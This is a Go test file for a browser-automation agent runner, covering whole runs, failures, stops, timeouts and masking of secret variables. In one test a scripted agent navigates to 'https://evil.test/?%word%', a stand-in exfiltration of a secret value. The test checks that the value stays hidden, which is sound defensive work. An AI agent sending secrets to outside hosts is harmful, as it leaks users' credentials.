package runs

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/drover-go/drover/errtypes"
	"github.com/drover-go/drover/internal/clock"
	"github.com/drover-go/drover/internal/demosite"
	"github.com/drover-go/drover/internal/testlevel"
	"github.com/drover-go/drover/runs/browser/chrome"
	"github.com/drover-go/drover/runs/browser/chrome/chrometest"
	"github.com/drover-go/drover/runs/model"
	"github.com/drover-go/drover/runs/model/scripted"
)

// testSite is the demo shop with pages that a run can be held on.
type testSite struct {
	*httptest.Server
	// held receives a value for each request that hangs until the site closes.
	held chan struct{}
}

func openSite(t testing.TB) *testSite {
	t.Helper()
	s := &testSite{held: make(chan struct{}, 8)}
	over := make(chan struct{})
	mux := http.NewServeMux()
	mux.Handle("/", demosite.New())
	mux.HandleFunc("/hang", func(w http.ResponseWriter, r *http.Request) {
		s.held <- struct{}{}
		select {
		case <-over:
		case <-r.Context().Done():
		}
	})
	mux.HandleFunc("/echo", echo)
	mux.HandleFunc("/disguised", disguised)
	mux.HandleFunc("/endless", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, "<!doctype html><title>Endless</title><p>Answer: 42</p>", strings.Repeat(" ", 2048))
		http.NewResponseController(w).Flush()
		select {
		case <-over:
		case <-r.Context().Done():
		}
	})
	mux.HandleFunc("/framed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><title>Framed</title><h1>A shop in a frame</h1><iframe width=900 height=900 src="http://other.test%s/products/ledger-chair"></iframe>`, r.Host[strings.LastIndex(r.Host, ":"):])
	})
	s.Server = httptest.NewServer(mux)
	t.Cleanup(func() { close(over); s.Close() })
	return s
}

// echo shows what it is given in all the ways in which a page can.
func echo(w http.ResponseWriter, r *http.Request) {
	v := r.FormValue("q")
	http.SetCookie(w, &http.Cookie{Name: "q", Value: base64.StdEncoding.EncodeToString([]byte(v))})
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	raw, _ := json.Marshal(v)
	fmt.Fprintf(w, `<!doctype html><title>About %[1]s</title><h1>You said %[1]s</h1>
		<form><label>Query <input name="q" value="%[1]s"></label><button aria-label="Ask for %[1]s again">Ask</button></form>
		<a href="/echo?q=%[2]s&amp;again=1">%[2]s</a> <a href="/%[3]s">more</a> <img alt="%[1]s" src="/x.png"><p title="%[1]s">Basic %[4]s</p><pre>%[5]s</pre>
		<dl><dt>Query</dt><dd>%[1]s</dd></dl><table><tr><th>Name</th><th>%[1]s</th></tr><tr><td>a</td><td>%[1]s</td></tr></table>
		<script>alert("Hello " + %[6]s); console.log(%[6]s); throw new Error(%[6]s)</script>`,
		html.EscapeString(v), url.QueryEscape(v), url.PathEscape(v),
		base64.StdEncoding.EncodeToString([]byte("user:"+v)), html.EscapeString(string(raw)), raw)
}

const productsSchema = `{"type":"object","properties":{"products":{"type":"array","minItems":1,"items":{"type":"object",
	"properties":{"name":{"type":"string"},"price":{"type":"number"},"inStock":{"type":"boolean"}},"required":["name","price","inStock"]}}},"required":["products"]}`

var shopVariables = map[string]Variable{
	"email":    {Value: demosite.Email, Description: "the account"},
	"password": {Value: demosite.Password},
}

func TestAnAgentRunFromBeginningToEnd(t *testing.T) {
	t.Parallel()
	site := openSite(t)
	w := start(t, setup{browser: chrometest.Provider(t), dir: t.TempDir()})
	r := w.create(t, Create{
		Task: "Go to " + site.URL + `/login. Type %email% into "Email" and %password% into "Password", click the "Sign in" button, ` +
			`click "Chairs", and return the products as JSON.`,
		ResultSchema: json.RawMessage(productsSchema), Variables: shopVariables,
	})
	if r.Status != Pending {
		t.Errorf("a new run is %s", r.Status)
	}
	seen, whileRunning := 0, 0
	for _, err := range w.Messages(t.Context(), r.ID) {
		if err != nil {
			t.Fatal(err)
		}
		seen++
		if now, err := w.Get(t.Context(), r.ID); err == nil && now.Status == Running {
			whileRunning++
		}
	}
	got := w.wait(t, r.ID)
	want := `{"products":[{"name":"Drover's stool","price":64.00,"inStock":true},{"name":"Ledger chair","price":329.00,"inStock":true}]}`
	if diff := cmp.Diff(want, string(got.Result)); got.Status != Completed || diff != "" {
		t.Fatalf("%s %+v %s", got.Status, got.Cause, diff)
	}
	messages := w.conversation(t, r.ID)
	if seen != len(messages) || seen != 14 || whileRunning < seen/2 {
		t.Errorf("%d of %d messages came, %d of them while it ran", seen, len(messages), whileRunning)
	}
	if got.SessionID != w.sessions.opened[0].ID() || w.sessions.count() != 1 {
		t.Errorf("session %q", got.SessionID)
	}
	if _, ok := w.values(r.ID); ok {
		t.Error("the values outlive the run")
	}
}

func TestAFailedRunSaysWhy(t *testing.T) {
	t.Parallel()
	testlevel.Long(t, "every way to fail")
	site := openSite(t)
	w := start(t, setup{browser: chrometest.Provider(t)})
	for task, want := range map[string]Cause{
		"Go to " + site.URL + `/login and click "Register"`: {CauseTaskFailed, `there is no element "Register"`},
		"Go to http://10.1.2.3/":                            {CauseTaskFailed, "step 1"},
		"Go to " + site.URL + " and buy the best lamp":      {CauseModel, "needs a language model"},
	} {
		r := w.do(t, Create{Task: task})
		if r.Status != Failed || r.Cause.Code != want.Code || !strings.Contains(r.Cause.Message, want.Message) {
			t.Errorf("%q: %s %+v", task, r.Status, r.Cause)
		}
		w.conversation(t, r.ID)
	}
	for schema, text := range map[string]string{
		`{"type":"object","properties":{"name":{"type":"string"},"isbn":{"type":"string"}},"required":["isbn"]}`: "isbn",
		`{"type":"object","properties":{"isbn":{"type":"string"}}}`:                                              "nothing on the page fits",
	} {
		r := w.do(t, Create{Task: "Go to " + site.URL + "/products/post-rack and return the product", ResultSchema: json.RawMessage(schema)})
		if r.Status != Failed || r.Cause.Code != CauseResultInvalid || r.Result != nil || !strings.Contains(r.Cause.Message, text) {
			t.Errorf("%s %+v", r.Status, r.Cause)
		}
	}
}

func TestWhatFramesShowCanBeReturned(t *testing.T) {
	t.Parallel()
	site := openSite(t)
	w := start(t, setup{browser: chrometest.Provider(t)})
	r := w.do(t, Create{Task: "Go to http://main.test" + site.port() + `/framed and return "SKU"`})
	if r.Status != Completed || !strings.Contains(string(r.Result), `{"SKU":"`) {
		t.Errorf("%s %+v %s", r.Status, r.Cause, r.Result)
	}
}

func TestAPageThatNeverEndsIsReadAsItIs(t *testing.T) {
	t.Parallel()
	site := openSite(t)
	w := start(t, setup{browser: chrometest.Provider(t, func(o *chrome.Options) { o.Settle.Document = 300 * time.Millisecond })})
	r := w.do(t, Create{Task: "Go to " + site.URL + `/endless and return "Answer"`})
	if r.Status != Completed || string(r.Result) != `{"Answer":"42"}` && string(r.Result) != `{"Answer":42}` {
		t.Errorf("%s %+v %s", r.Status, r.Cause, r.Result)
	}
	told := false
	for m, err := range w.Messages(t.Context(), r.ID) {
		if err != nil {
			t.Fatal(err)
		}
		raw, err := json.Marshal(m.Message)
		if err != nil {
			t.Fatal(err)
		}
		told = told || strings.Contains(string(raw), "has not come to its end")
	}
	if !told {
		t.Error("the model is not told that the document has not come to its end")
	}
}

// hold starts a run that hangs in a page and returns once it does.
func (w *working) hold(t *testing.T, site *testSite) Run {
	t.Helper()
	r := w.create(t, Create{Task: "Go to " + site.URL + "/hang"})
	<-site.held
	return r
}

func TestStopInTheMiddle(t *testing.T) {
	t.Parallel()
	site := openSite(t)
	w := start(t, setup{browser: chrometest.Provider(t)})
	r := w.hold(t, site)
	for range 2 { // a second stop before the end is as good
		stopped, err := w.Stop(t.Context(), r.ID)
		if err != nil || stopped.Status.Final() && stopped.Status != Stopped {
			t.Fatalf("%+v, %v", stopped, err)
		}
		if stopped.Status == Stopped {
			break // it was quick
		}
	}
	got := w.wait(t, r.ID)
	if got.Status != Stopped || got.Cause.Code != CauseStopped {
		t.Errorf("%s %+v", got.Status, got.Cause)
	}
	want := []string{
		"reasoning Step 1 of 1: Go to " + site.URL + "/hang.",
		`tool-call navigate {"url":"` + site.URL + `/hang"}`,
		"tool-result navigate error-text: stopped",
	}
	if diff := cmp.Diff(want, lines(w.conversation(t, r.ID))); diff != "" {
		t.Error(diff)
	}
	if _, err := w.Stop(t.Context(), r.ID); !errtypes.Is(err, errtypes.Conflict) {
		t.Errorf("a stop of a finished run: %v", err)
	}
}

func TestARunThatTakesTooLong(t *testing.T) {
	t.Parallel()
	site := openSite(t)
	c := clock.NewManual(noon)
	w := start(t, setup{browser: chrometest.Provider(t), clock: c, limits: Limits{MaxDuration: 10 * time.Second}})
	r := w.hold(t, site)
	c.Advance(10 * time.Second)
	got := w.wait(t, r.ID)
	if got.Status != TimedOut || got.Cause.Code != CauseTimedOut || got.Cause.Message != "the run took longer than 10s" {
		t.Errorf("%s %+v", got.Status, got.Cause)
	}
	if all := lines(w.conversation(t, r.ID)); all[len(all)-1] != "tool-result navigate error-text: the run took longer than 10s" {
		t.Errorf("%q", all)
	}
}

func TestATooSlowToolIsAnErrorOnly(t *testing.T) {
	t.Parallel()
	site := openSite(t)
	c := clock.NewManual(noon)
	w := start(t, setup{browser: chrometest.Provider(t), clock: c, model: scripted.New(
		scripted.Call("navigate", map[string]string{"url": site.URL + "/hang"}),
		scripted.Call("navigate", map[string]string{"url": site.URL}),
		done(true, "", ""),
	)})
	r := w.hold(t, site)
	c.Advance(30 * time.Second)
	got := w.wait(t, r.ID)
	all := lines(w.conversation(t, r.ID))
	if got.Status != Completed || all[1] != "tool-result navigate error-text: the tool took too long and was stopped; it may have taken effect; look at the page before doing it again" || !strings.Contains(all[3], "Opened") {
		t.Errorf("%s %+v %q", got.Status, got.Cause, all)
	}
}

func TestAClosingHostEndsItsRuns(t *testing.T) {
	t.Parallel()
	site := openSite(t)
	w := start(t, setup{browser: chrometest.Provider(t), dir: t.TempDir()})
	r := w.hold(t, site)
	w.service.Close(t.Context())
	if _, err := w.Create(t.Context(), Create{Task: "x"}); !errtypes.Is(err, errtypes.Unavailable) {
		t.Errorf("a run while closing: %v", err)
	}
	now, cancel := context.WithCancel(t.Context())
	cancel()
	if err := w.queue.Stop(now); err != nil {
		t.Fatal(err)
	}
	if got := w.wait(t, r.ID); got.Status != Failed || got.Cause.Code != CauseShutdown {
		t.Errorf("%s %+v", got.Status, got.Cause)
	}
	w.conversation(t, r.ID)
}

func TestSeveralRunsAtTheSameTime(t *testing.T) {
	t.Parallel()
	testlevel.Long(t, "several browsers at once")
	site := openSite(t)
	w := start(t, setup{browser: chrometest.Provider(t)})
	var wg sync.WaitGroup
	for _, slug := range []string{"ledger-chair", "ferry-trunk", "post-rack", "market-basket", "drovers-stool"} {
		wg.Go(func() {
			r, err := w.Create(t.Context(), Create{Task: "Go to " + site.URL + "/products/" + slug + ` and return "SKU"`})
			if err == nil {
				r, err = w.Wait(t.Context(), r.ID)
			}
			if err != nil || r.Status != Completed || !strings.Contains(string(r.Result), `{"SKU":"`) {
				t.Errorf("%s: %s %+v %s, %v", slug, r.Status, r.Cause, r.Result, err)
			}
		})
	}
	wg.Wait()
	w.sessions.mustBeGone(t)
}

const canary = `Kan#ry "7/ü`

// disguised shows the value of q as it is, and as pages give things back that
// mean no harm: in another case, escaped, in groups, in parts.
func disguised(w http.ResponseWriter, r *http.Request) {
	v := r.FormValue("q")
	var decimal, units strings.Builder
	for _, c := range v {
		fmt.Fprintf(&decimal, "&amp;#%d;", c)
	}
	for _, u := range utf16.Encode([]rune(v)) {
		fmt.Fprintf(&units, `\u%04X`, u)
	}
	plain, half := html.EscapeString, len("Kan#")
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprintf(w, `<!doctype html><title>%s</title><h1>%s</h1><p style="text-transform:uppercase">%s</p><p>%s</p><p>%s</p><p>%s</p>
		<p>%s</p><p>%s</p><a href="//shop.test/%s">%s</a><p>here: %s</p>
		<ul><li>%s</li><li>%s</li></ul><table><tr><th>a</th><th>b</th></tr><tr><td>%[12]s</td><td>%[13]s</td></tr></table>`,
		plain(strings.ToUpper(v)), plain(strings.ToLower(v)), plain(v), decimal.String(), units.String(), base64.RawURLEncoding.EncodeToString([]byte("u:"+v)),
		strings.ToLower(url.QueryEscape(v)), url.QueryEscape(url.QueryEscape(v)), strings.ToUpper(url.PathEscape(v)), plain(strings.ReplaceAll(v, " ", "\u00a0\n")),
		plain(r.Host), plain(v[:half]), plain(v[half:]))
}

// port is where the site listens.
func (s *testSite) port() string { return s.URL[strings.LastIndex(s.URL, ":"):] }

func TestValuesAreNowhere(t *testing.T) {
	t.Parallel()
	testlevel.Long(t, "every place that a value could be in")
	site := openSite(t)
	dir := t.TempDir()
	m := scripted.New(
		scripted.Call("navigate", map[string]string{"url": site.URL + "/echo?q=%word%"}),
		scripted.Call("read", map[string]string{"as": "text"}),
		scripted.Call("read", map[string]string{"as": "data"}),
		scripted.Turn{Do: typeInto("%word% and %word%")},
		scripted.Call("wait", map[string]any{"text": "%word%", "seconds": 1}),
		scripted.Call("snapshot", map[string]string{"find": "ask"}),
		scripted.Call("navigate", map[string]string{"url": "https://evil.test/?%word%"}),
		scripted.Call("navigate", map[string]string{"url": "http://%shop%.test" + site.port() + "/disguised?q=%word%"}),
		scripted.Call("read", map[string]string{"as": "text"}),
		scripted.Call("read", map[string]string{"as": "data"}),
		scripted.Turn{Do: tellAll},
	)
	browserLog := &logBuffer{}
	p := chrometest.Provider(t, func(o *chrome.Options) {
		o.Logger = slog.New(slog.NewTextHandler(browserLog, &slog.HandlerOptions{Level: slog.LevelDebug}))
	})
	w := start(t, setup{browser: p, dir: dir, model: m})
	r := w.do(t, Create{
		Task:      "Go to " + site.URL + "/echo?q=%word% and to http://%shop%.test" + site.port() + "/disguised?q=%word% and tell what is there",
		Variables: map[string]Variable{"word": {Value: canary}, "shop": {Value: "Bücher"}},
	})
	if r.Status != Completed || !strings.Contains(string(r.Result), "%word%") {
		t.Fatalf("%s %+v", r.Status, r.Cause)
	}
	all := strings.Join(lines(w.conversation(t, r.ID)), "\n")
	for _, want := range []string{
		`Opened "` + site.URL + `/echo?q=%word%".`, `Typed "%word% and %word%" into textbox "Query"`, "the task does not put there",
		`Opened "http://%shop%.test` + site.port() + `/disguised?q=%word%".`,
	} {
		if !strings.Contains(all, want) {
			t.Errorf("no %q in\n%s", want, all)
		}
	}
	raw, err := json.Marshal([]any{m.Requests(), w.conversation(t, r.ID), r})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(raw), "here: %shop%.test") {
		t.Error("the second page was not read")
	}
	places := map[string]string{"requests and messages": string(raw), "log": w.log.String(), "browser's log": browserLog.String()}
	files, err := filepath.Glob(filepath.Join(dir, "*"))
	if err != nil || len(files) < 2 {
		t.Fatal(files, err)
	}
	for _, file := range files {
		if data, err := os.ReadFile(file); err == nil {
			places[filepath.Base(file)] = string(data)
		}
	}
	for place, text := range places {
		if form := leftOf(canary, text); form != "" {
			t.Errorf("%q stands in the %s", form, place)
		}
		if low := strings.ToLower(text); strings.Contains(low, "bücher") || strings.Contains(low, "bcher-kva") {
			t.Errorf("the host stands in the %s", place)
		}
	}
}

// leftOf returns in which form a value stands in a text, whatever its case,
// with what is around it; empty if it does not.
func leftOf(value, text string) string {
	low := strings.ToLower(text)
	encoded := base64.StdEncoding.EncodeToString([]byte("u:" + value))
	for _, form := range []string{
		value, "kan#ry", "kan%23ry", "kan%2523", `"7/ü`, "kan#", "u004b", "#75;", html.EscapeString(value), url.QueryEscape(value), url.PathEscape(value),
		base64.StdEncoding.EncodeToString([]byte(value)), base64.StdEncoding.EncodeToString([]byte("user:" + value))[8:16], encoded[4:12],
	} {
		if i := strings.Index(low, strings.ToLower(form)); i >= 0 {
			return form + " in …" + low[max(0, i-80):min(len(low), i+80)] + "…"
		}
	}
	return ""
}

// typeInto types into the first field of the page that the model was shown.
func typeInto(text string) func(context.Context, model.Request) (model.Response, error) {
	return func(_ context.Context, r model.Request) (model.Response, error) {
		for _, m := range r.Messages {
			for _, res := range m.Results() {
				_, rest, ok := strings.Cut(res.Output.Text(), `textbox "Query" [`)
				if ref, _, found := strings.Cut(rest, "]"); ok && found {
					return model.Response{Content: []model.Part{model.Call("type", "type", map[string]string{"ref": ref, "text": text})}}, nil
				}
			}
		}
		return model.Response{}, model.Errorf("no field was shown")
	}
}

// tellAll ends the run with everything that the model has been told.
func tellAll(_ context.Context, r model.Request) (model.Response, error) {
	var all []string
	for _, m := range r.Messages {
		for _, res := range m.Results() {
			all = append(all, res.Output.Text())
		}
	}
	text := strings.Join(all, "\n")
	return model.Response{Content: []model.Part{model.Call("done", "done", map[string]any{"success": true, "result": map[string]string{"text": text[:min(len(text), 40_000)]}})}}, nil
}
